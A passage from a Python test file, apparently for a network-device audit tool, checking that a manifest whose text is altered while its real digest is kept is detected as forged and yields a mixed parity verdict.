    assert [v.host for v in taken.hosts if v.verdict is Verdict.MISMATCH] == ["router3"]


def test_p1_a_manifest_that_lies_about_its_digest_is_not_believed() -> None:
    forged = MANIFEST.model_copy(update={"version": "9.9"}).canonical()
    seen: dict[str, Evidence | HostFault]
    seen = {
        name: but(good(name), manifest=ManifestShown(sha=MANIFEST.digest(), text=forged.decode()))
        for name in NAMES
    }
    shown = shown_manifest(seen)
    assert shown is not None
    assert shown.version == ""
    assert judge(rendered().inventory, seen, shown).parity is Parity.MIXED
